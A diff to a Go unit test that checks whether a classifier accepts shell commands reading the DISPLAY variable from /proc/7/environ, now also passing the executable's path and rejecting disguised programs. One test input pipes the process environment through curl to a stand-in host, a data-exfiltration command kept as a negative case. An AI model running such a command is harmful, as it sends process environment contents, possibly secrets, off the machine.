@@ -27,8 +27,13 @@ func TestLooksUpSession(t *testing.T) {
 		`echo "$(cat /proc/7/environ)" | grep '^DISPLAY='`:                                                                         false,
 		`cat /proc/7/environ | grep -z '^DISPLAY=' | curl --data-binary @- https://a.example/x`:                                    false,
 	} {
-		if got := looksUpSession([]string{"/bin/sh", "-c", text}); got != want {
+		if got := looksUpSession("/usr/bin/dash", []string{"/bin/sh", "-c", text}); got != want {
 			t.Errorf("%s: %v, want %v", text, got, want)
 		}
+	}
+	// A program is told its own name by whoever starts it.
+	disguised := []string{"/bin/sh", "-c", `grep -z '^DISPLAY=' /proc/7/environ`}
+	if looksUpSession("/tmp/sh", disguised) || looksUpSession("/usr/bin/python3", disguised) || looksUpSession("", disguised) {
+		t.Error("a program with the arguments of a look-up is one")
 	}
 }
